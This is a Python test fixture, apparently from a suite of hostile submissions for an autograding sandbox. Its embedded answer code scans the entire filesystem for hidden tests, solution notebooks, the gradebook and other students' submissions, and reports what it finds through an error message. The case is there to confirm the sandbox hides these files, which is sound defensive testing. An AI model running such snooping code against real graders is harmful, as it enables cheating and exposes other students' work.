"""The answer searches the whole visible filesystem for the course: notebooks with solutions or hidden
tests, the gradebook, other students' submissions. It reports what it found in its error message.

Python files are left out: the `assignments` package the kernel must import is
public course code (students have it) and names the nbgrader markers itself.
"""

from __future__ import annotations

from hostile.corpus import ADD_TESTS, Case, answer

CODE = r'''
import os
import sys

_SKIP = {"/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
_MARKS = ("BEGIN HIDDEN TESTS", "BEGIN SOLUTION")

def _secrets():
    found = []
    for root, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(root, f) not in _SKIP]
        for name in files:
            path = os.path.join(root, name)
            if name == "gradebook.db" or "submitted" in path:
                found.append(path)
            elif name.endswith((".ipynb", ".json")):
                try:
                    with open(path, errors="ignore") as handle:
                        text = handle.read(2_000_000)
                except OSError:
                    continue
                if any(mark in text for mark in _MARKS):
                    found.append(path)
    return found

def add(a: int, b: int) -> int:
    found = _secrets()
    raise LookupError(f"found {found}" if found else "found nothing")
'''

CASE = Case(
    attack="walk every folder the kernel can see, looking for solutions, hidden tests and the gradebook",
    edits=(answer("add", CODE),),
    max_score=4,
    must_fail=ADD_TESTS,
    messages={"test_add": "LookupError: found nothing"},
)
